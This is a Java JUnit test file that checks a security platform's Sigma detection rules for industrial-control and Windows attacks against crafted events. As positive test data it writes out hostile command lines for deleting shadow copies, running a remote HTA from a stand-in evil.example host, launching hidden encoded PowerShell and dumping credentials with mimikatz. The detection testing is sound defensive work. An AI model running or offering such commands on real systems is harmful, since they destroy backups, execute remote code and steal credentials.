package soc.detect.stream;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import soc.detect.DetectProperties;
import soc.detect.sigma.CompiledRule;
import soc.detect.sigma.LoadReport;
import soc.detect.sigma.SigmaEngine;
import soc.events.SocEvent;

/**
 * The platform's own Sigma packs (classpath:sigma/packs/ot, .../it), loaded exactly as the service loads them,
 * against events shaped like the normaliser's output (docs/schema.md): each rule fires on its positive events and
 * stays quiet on near misses.
 */
class SigmaPacksTest {
    static final String EWS = "10.20.9.5";
    private static final SigmaEngine ENGINE = SigmaRulesConfiguration.build(new DetectProperties.Sigma(List.of(),
            true, Map.of("ot-networks", List.of("10.20.*"), "ot-engineering-workstations", List.of(EWS))));

    static SocEvent event(Object... kv) {
        SocEvent.Builder b = new SocEvent.Builder().put(SocEvent.EVENT_ID, "e-" + kv.length).put(SocEvent.TENANT_ID,
                "acme-water").put(SocEvent.TIMESTAMP, "2026-11-23T10:00:00Z");
        for (int i = 0; i < kv.length; i += 2) {
            b.put((String) kv[i], kv[i + 1]);
        }
        return b.build();
    }

    static List<String> titles(SocEvent e) {
        return ENGINE.match(e).stream().map(CompiledRule::title).toList();
    }

    // ------------------------------------------------------------------------------------------ the packs

    @Test
    void packsLoadCleanlyWithAuthorAndAttackTags() {
        LoadReport r = ENGINE.loadReport();
        assertThat(r.failures()).isEmpty();
        assertThat(r.warnings()).isEmpty();
        assertThat(r.unroutable()).isEmpty();
        assertThat(ENGINE.rules()).hasSize(13);
        assertThat(ENGINE.correlations()).hasSize(2);
        assertThat(ENGINE.correlations()).allSatisfy(c -> assertThat(c.rules())
                .containsExactly("soc_failed_logon_bad_credentials"));
        for (CompiledRule rule : ENGINE.rules()) {
            assertThat(rule.author()).as(rule.title()).isEqualTo("SOC platform team");
            assertThat(rule.techniques()).as(rule.title()).isNotEmpty();
            assertThat(rule.id()).as(rule.title()).matches("[0-9a-f-]{36}");
            if (rule.rule().source().contains("/ot/")) {
                assertThat(rule.techniques()).as("ATT&CK for ICS: " + rule.title())
                        .allSatisfy(t -> assertThat(t).startsWith("T08"));
            } else {
                assertThat(rule.techniques()).as("ATT&CK Enterprise: " + rule.title())
                        .allSatisfy(t -> assertThat(t).startsWith("T1"));
            }
        }
        assertThat(SigmaRulesConfiguration.builtInPacks().keySet()).allSatisfy(k -> assertThat(k)
                .startsWith("classpath:sigma/packs/"));
    }

    @Test
    void withoutSiteFactsThePlaceholderFiltersNeverMatchSoEverythingAlerts() {
        SigmaEngine bare = SigmaRulesConfiguration.build(new DetectProperties.Sigma(List.of(), true, Map.of()));
        assertThat(bare.loadReport().warnings()).isNotEmpty().allSatisfy(w -> assertThat(w)
                .contains("unresolved placeholder"));
        SocEvent fromEws = modbus(EWS, 6, "WRITE_SINGLE_REGISTER");
        assertThat(bare.match(fromEws)).extracting(CompiledRule::title)
                .contains("Modbus Write From a Host That Is Not an Engineering Workstation");
    }

    // ------------------------------------------------------------------------------------------ OT

    static SocEvent modbus(String source, int code, String name, Object... more) {
        List<Object> kv = new ArrayList<>(List.of("event.dataset", "zeek.modbus", "network.protocol", "modbus",
                "ot.protocol", "modbus", "source.ip", source, "destination.ip", "10.20.2.10", "destination.port", 502,
                "ot.function_code", code, "ot.function_name", name));
        kv.addAll(List.of(more));
        return event(kv.toArray());
    }

    @Test
    void modbusWritesFromNonEngineeringHosts() {
        String title = "Modbus Write From a Host That Is Not an Engineering Workstation";
        for (int code : new int[] {5, 6, 15, 16}) {
            assertThat(titles(modbus("10.20.1.7", code, "x"))).as("FC %d", code).contains(title);
        }
        // Zeek names without a code, Suricata codes without a name
        assertThat(titles(event("ot.protocol", "modbus", "source.ip", "10.20.1.7", "ot.function_name",
                "WRITE_MULTIPLE_REGISTERS"))).contains(title);
        assertThat(titles(event("event.dataset", "suricata.modbus", "ot.protocol", "modbus", "source.ip",
                "10.20.1.7", "ot.function_code", 16L))).contains(title);
        // near misses: reads, the engineering workstation, responses, exceptions, another protocol
        assertThat(titles(modbus("10.20.1.7", 3, "READ_HOLDING_REGISTERS"))).doesNotContain(title);
        assertThat(titles(modbus(EWS, 16, "WRITE_MULTIPLE_REGISTERS"))).doesNotContain(title);
        // the asset inventory (ingest asset enrichment) knows engineering workstations, SCADA servers and HMIs
        for (String type : List.of("engineering_workstation", "scada_server", "hmi")) {
            assertThat(titles(modbus("10.20.1.7", 6, "WRITE_SINGLE_REGISTER", "source.asset.type", type)))
                    .as(type).doesNotContain(title);
        }
        assertThat(titles(modbus("10.20.1.7", 6, "WRITE_SINGLE_REGISTER", "source.asset.type", "workstation")))
                .contains(title);
        assertThat(titles(modbus("10.20.1.7", 6, "WRITE_SINGLE_REGISTER", "ot.message_type", "RESP")))
                .doesNotContain(title);
        assertThat(titles(modbus("10.20.1.7", 134, "WRITE_SINGLE_REGISTER_EXCEPTION"))).doesNotContain(title);
        assertThat(titles(event("ot.protocol", "dnp3", "source.ip", "10.20.1.7", "ot.function_code", 5)))
                .doesNotContain(title);
    }

    @Test
    void modbusDiagnosticsAndUmasFromNonEngineeringHosts() {
        String diag = "Modbus Diagnostics Request From a Host That Is Not an Engineering Workstation";
        String umas = "Modbus UMAS (Function 90) Engineering Request From a Host That Is Not an Engineering "
                + "Workstation";
        assertThat(titles(modbus("10.20.1.7", 8, "DIAGNOSTICS"))).contains(diag).doesNotContain(umas);
        assertThat(titles(modbus(EWS, 8, "DIAGNOSTICS"))).doesNotContain(diag);
        assertThat(titles(modbus("10.20.1.7", 8, "DIAGNOSTICS", "source.asset.type", "engineering_workstation")))
                .doesNotContain(diag);
        assertThat(titles(modbus("10.20.1.7", 8, "DIAGNOSTICS", "source.asset.type", "hmi"))).contains(diag);
        assertThat(titles(modbus("10.20.1.7", 7, "READ_EXCEPTION_STATUS"))).doesNotContain(diag);
        assertThat(titles(modbus("10.20.1.7", 90, "unknown-90"))).contains(umas).doesNotContain(diag);
        assertThat(titles(event("ot.protocol", "modbus", "source.ip", "10.20.1.7", "ot.function_name",
                "unknown-90"))).contains(umas);
        assertThat(titles(modbus(EWS, 90, "unknown-90"))).doesNotContain(umas);
        assertThat(titles(modbus("10.20.1.7", 91, "unknown-91"))).doesNotContain(umas);
    }

    static SocEvent s7(Object code, String name, String rosctr) {
        return event("event.dataset", "zeek.s7comm", "ot.protocol", "s7comm", "source.ip", "10.20.1.7",
                "destination.ip", "10.20.3.1", "destination.port", 102, "ot.function_code", code,
                "ot.function_name", name, "ot.message_type", rosctr);
    }

    @Test
    void s7PlcStopAndProgramDownload() {
        String stop = "Siemens S7 PLC Stop or Control Request";
        String download = "Siemens S7 Program Download to a PLC";
        assertThat(titles(s7(41, "PLC_STOP", "JOB"))).contains(stop).doesNotContain(download);
        assertThat(titles(s7(40, "PLC_CONTROL", "JOB"))).contains(stop);
        assertThat(titles(s7(26, "REQUEST_DOWNLOAD", "JOB"))).contains(download).doesNotContain(stop);
        assertThat(titles(s7(27, "DOWNLOAD_BLOCK", "JOB"))).contains(download);
        // a Radiflow-style protocol name works too
        assertThat(titles(event("ot.protocol", "s7/s7plus/61850-mms", "ot.function_name", "PLC_STOP")))
                .contains(stop);
        // near misses: the PLC's acknowledgement, reads and uploads (function 0x1D-0x1F), other protocols
        assertThat(titles(s7(41, "PLC_STOP", "ACK_DATA"))).doesNotContain(stop);
        assertThat(titles(s7(4, "READ_VARIABLE", "JOB"))).isEmpty();
        assertThat(titles(s7(29, "START_UPLOAD", "JOB"))).isEmpty();
        assertThat(titles(event("ot.protocol", "enip", "ot.function_code", 41))).isEmpty();
    }

    static SocEvent dnp3(Object code, String name) {
        return event("event.dataset", "zeek.dnp3", "ot.protocol", "dnp3", "network.protocol", "dnp3", "source.ip",
                "10.20.1.8", "destination.ip", "10.20.4.3", "destination.port", 20000, "ot.function_code", code,
                "ot.function_name", name);
    }

    @Test
    void dnp3ColdAndWarmRestart() {
        String cold = "DNP3 Cold Restart Request";
        String warm = "DNP3 Warm Restart Request";
        assertThat(titles(dnp3(13, "COLD_RESTART"))).containsExactly(cold);
        assertThat(titles(dnp3(14, "WARM_RESTART"))).containsExactly(warm);
        // Suricata: code only; Zeek TSV baselines: name only
        assertThat(titles(event("ot.protocol", "dnp3", "ot.function_code", 13L))).containsExactly(cold);
        assertThat(titles(event("ot.protocol", "dnp3", "ot.function_name", "WARM_RESTART"))).containsExactly(warm);
        // near misses: reads, the outstation's responses, Modbus code 13
        assertThat(titles(dnp3(1, "READ"))).isEmpty();
        assertThat(titles(dnp3(129, "RESPONSE"))).isEmpty();
        assertThat(titles(modbus("10.20.1.7", 13, "unknown-13"))).doesNotContain(cold);
    }

    static SocEvent connection(String source, int port) {
        return event("event.dataset", "zeek.conn", "network.transport", "tcp", "source.ip", source, "source.port",
                51515, "destination.ip", "10.20.2.10", "destination.port", port);
    }

    @Test
    void itToOtZoneCrossing() {
        String title = "Connection From Outside the OT Networks to an Industrial Protocol Port";
        for (int port : new int[] {502, 20000, 102, 44818, 4840}) {
            assertThat(titles(connection("10.1.0.23", port))).as("port %d", port).containsExactly(title);
        }
        // a firewall key=value log line (dport as text)
        assertThat(titles(event("event.dataset", "kv", "network.transport", "tcp", "source.ip", "192.168.7.4",
                "destination.port", "502"))).containsExactly(title);
        // near misses: inside the OT zone, other ports, an event that is not a network event
        assertThat(titles(connection("10.20.1.7", 502))).isEmpty();
        SocEvent historianInDmz = event("network.transport", "tcp", "source.ip", "172.16.5.5", "destination.port",
                502, "source.asset.type", "historian", "source.asset.zone", "DMZ");
        assertThat(titles(historianInDmz)).isEmpty();
        assertThat(titles(event("network.transport", "tcp", "source.ip", "172.16.5.6", "destination.port", 502,
                "source.asset.type", "laptop"))).containsExactly(title);
        assertThat(titles(connection("10.1.0.23", 443))).isEmpty();
        assertThat(titles(connection("10.1.0.23", 5020))).isEmpty();
        assertThat(titles(event("source.ip", "10.1.0.23", "destination.port", 502))).isEmpty();
    }

    // ------------------------------------------------------------------------------------------ IT

    static SocEvent security(String eventId, Object... eventData) {
        List<Object> kv = new ArrayList<>(List.of("event.dataset", "windows.security", "winlog.channel", "Security",
                "winlog.provider_name", "Microsoft-Windows-Security-Auditing", "winlog.event_id", eventId,
                "event.code", eventId, "host.name", "dc01.acme.example"));
        for (int i = 0; i < eventData.length; i += 2) {
            kv.add("winlog.event_data." + eventData[i]);
            kv.add(eventData[i + 1]);
        }
        return event(kv.toArray());
    }

    @Test
    void failedLogonPrecursorsOfBruteForceAndSpraying() {
        String bad = "Failed Logon With a Bad Password or an Unknown Account";
        String locked = "Logon Attempt Against a Locked-Out Account";
        assertThat(titles(security("4625", "Status", "0xc000006d", "SubStatus", "0xc000006a", "TargetUserName",
                "j.jones", "IpAddress", "10.1.0.23", "LogonType", "3"))).containsExactly(bad);
        assertThat(titles(security("4625", "Status", "0xc000006d", "SubStatus", "0xC0000064", "TargetUserName",
                "nosuchuser"))).containsExactly(bad);
        assertThat(titles(security("4625", "Status", "0xc0000234", "SubStatus", "0x0"))).containsExactly(locked);
        assertThat(titles(security("4740", "TargetUserName", "j.jones"))).containsExactly(locked);
        // near misses: expired password / disabled account / time restriction, a successful logon, another channel
        assertThat(titles(security("4625", "Status", "0xc000006e", "SubStatus", "0xc0000071"))).isEmpty();
        assertThat(titles(security("4625", "Status", "0xc000006e", "SubStatus", "0xc0000072"))).isEmpty();
        assertThat(titles(security("4624", "Status", "0x0", "SubStatus", "0xc000006a"))).isEmpty();
        assertThat(titles(event("winlog.channel", "System", "winlog.event_id", "4625",
                "winlog.event_data.SubStatus", "0xc000006a"))).isEmpty();
    }

    @Test
    void memberAddedToPrivilegedGroups() {
        String title = "Member Added to a Privileged Group";
        assertThat(titles(security("4728", "TargetUserName", "Domain Admins", "TargetSid",
                "S-1-5-21-3623811015-3361044348-30300820-512", "MemberName", "CN=eve,CN=Users,DC=acme,DC=example")))
                .containsExactly(title);
        assertThat(titles(security("4732", "TargetUserName", "Administrateurs", "TargetSid", "S-1-5-32-544")))
                .containsExactly(title);
        assertThat(titles(security("4756", "TargetUserName", "Enterprise Admins", "TargetSid",
                "S-1-5-21-1-2-3-519"))).containsExactly(title);
        assertThat(titles(security("4732", "TargetUserName", "DnsAdmins", "TargetSid", "S-1-5-21-1-2-3-1101")))
                .containsExactly(title);
        // near misses: an ordinary group, removal (4729/4733) from an admin group, a group created (4727)
        assertThat(titles(security("4728", "TargetUserName", "Finance", "TargetSid", "S-1-5-21-1-2-3-1105")))
                .isEmpty();
        assertThat(titles(security("4733", "TargetUserName", "Administrators", "TargetSid", "S-1-5-32-544")))
                .isEmpty();
        assertThat(titles(security("4727", "TargetUserName", "Domain Admins", "TargetSid", "S-1-5-21-1-2-3-512")))
                .isEmpty();
        // RID 1512 ends in 512 but not in -512
        assertThat(titles(security("4728", "TargetUserName", "Print Staff", "TargetSid", "S-1-5-21-1-2-3-1512")))
                .isEmpty();
    }

    static SocEvent process(String image, String commandLine, String parentImage) {
        return event("event.dataset", "windows.sysmon", "winlog.channel", "Microsoft-Windows-Sysmon/Operational",
                "winlog.event_id", "1", "host.name", "ws042.acme.example",
                "winlog.event_data.Image", image, "winlog.event_data.CommandLine", commandLine,
                "winlog.event_data.ParentImage", parentImage, "process.executable", image,
                "process.command_line", commandLine);
    }

    @Test
    void shadowCopyDeletion() {
        String title = "Volume Shadow Copies Deleted";
        String explorer = "C:\\Windows\\explorer.exe";
        assertThat(titles(process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet",
                explorer))).containsExactly(title);
        assertThat(titles(process("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete", explorer)))
                .containsExactly(title);
        assertThat(titles(process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell -c \"Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}\"", explorer)))
                .containsExactly(title);
        // Security 4688 carries NewProcessName instead of Image
        assertThat(titles(event("winlog.channel", "Security", "winlog.event_id", "4688",
                "winlog.event_data.NewProcessName", "C:\\Windows\\System32\\vssadmin.exe",
                "winlog.event_data.CommandLine", "vssadmin delete shadows /for=c: /all"))).containsExactly(title);
        // near misses: listing shadows, creating one, an unrelated delete
        assertThat(titles(process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows", explorer)))
                .isEmpty();
        assertThat(titles(process("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy call create Volume=C:\\",
                explorer))).isEmpty();
        assertThat(titles(process("C:\\Windows\\System32\\cmd.exe", "cmd /c del shadows.txt", explorer))).isEmpty();
    }

    @Test
    void officeStartsScriptHost() {
        String title = "Office Application Starts a Script Host or Shell";
        String word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        assertThat(titles(process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell -nop -w hidden -enc SQBFAFgA", word))).contains(title);
        assertThat(titles(process("C:\\Windows\\System32\\mshta.exe", "mshta http://evil.example/a.hta",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"))).contains(title);
        assertThat(titles(process("C:\\Windows\\System32\\wscript.exe", "wscript invoice.vbs",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"))).contains(title);
        // near misses: Office starting Office, Explorer starting PowerShell
        assertThat(titles(process("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                "EXCEL.EXE /dde", word))).doesNotContain(title);
        assertThat(titles(process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell",
                "C:\\Windows\\explorer.exe"))).doesNotContain(title);
    }

    /** The walking-skeleton syslog line must raise only the built-in credential-dumping alert, none of the packs. */
    @Test
    void packsStayQuietOnTheEndToEndSyslogLine() {
        SocEvent syslog = event("event.dataset", "syslog", "host.name", "ws042.council.example", "process.name",
                "cmd", "message", "user ran mimikatz.exe sekurlsa::logonpasswords m123", "log.syslog.priority", 13);
        assertThat(titles(syslog)).isEmpty();
    }
}
